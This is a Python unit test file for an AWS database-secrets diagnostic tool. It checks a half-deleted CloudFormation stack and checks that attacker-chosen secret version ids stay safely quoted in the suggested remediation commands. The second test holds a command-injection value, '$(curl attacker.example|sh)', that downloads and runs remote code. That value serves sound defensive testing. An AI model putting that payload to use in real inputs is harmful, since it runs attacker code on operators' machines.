"""The two secrets of the database: while its stack is deleted, and with versions that an attacker has named."""

import shlex
from types import SimpleNamespace
from typing import Any

from installation.settings import Settings
from ops.doctor.database import examine
from tests.support.fake_clients import client_error
from tests.support.fakes import NOW, FakeAccount
from tests.unit.ops.doctor.test_database import URL, Secrets, look


def test_a_half_deleted_stack_misses_no_secret(account: FakeAccount, settings: Settings) -> None:
    """CloudFormation has deleted it for good, and `restore-secret` was the advice."""

    def gone(**_: object) -> Any:
        raise client_error("ResourceNotFoundException", operation="GetSecretValue")

    secrets = Secrets()
    secrets.get_secret_value = gone  # type: ignore[method-assign, assignment]
    assert {it.cause for it in look(account, settings, secrets).findings} >= {"password-missing"}
    aws: Any = account.aws(settings)
    account.stacks["StorageStack"]["StackStatus"] = "DELETE_FAILED"
    aws.secretsmanager = secrets
    aws.logs = SimpleNamespace(get_paginator=lambda _: SimpleNamespace(paginate=lambda **__: []))
    assert examine(aws, NOW).findings == ()


def test_an_id_that_a_secrets_writer_has_chosen_is_one_word_of_the_command(
    account: FakeAccount, settings: Settings
) -> None:
    """The ids of versions are any text of 32 to 64 characters, and an operator copies the command."""
    chosen = "$(curl attacker.example|sh);echo "
    secrets = Secrets(url=URL.replace(":secret@", ":another@"))
    secrets.describe_secret = lambda **_: {  # type: ignore[method-assign]
        "VersionIdsToStages": {f"{chosen}1": ["AWSCURRENT"], f"{chosen}2": ["AWSPREVIOUS"]}
    }

    (finding,) = look(account, settings, secrets).findings

    words = shlex.split(finding.remediations[0].command)
    # Requests fail until new tasks run, so a release waits for alarms otherwise.
    assert finding.remediations[1].command.endswith("--again --image IMAGE --ignore-alarms")
    assert words[words.index("--move-to-version-id") + 1] == f"{chosen}2"
    assert words[words.index("--remove-from-version-id") + 1] == f"{chosen}1"
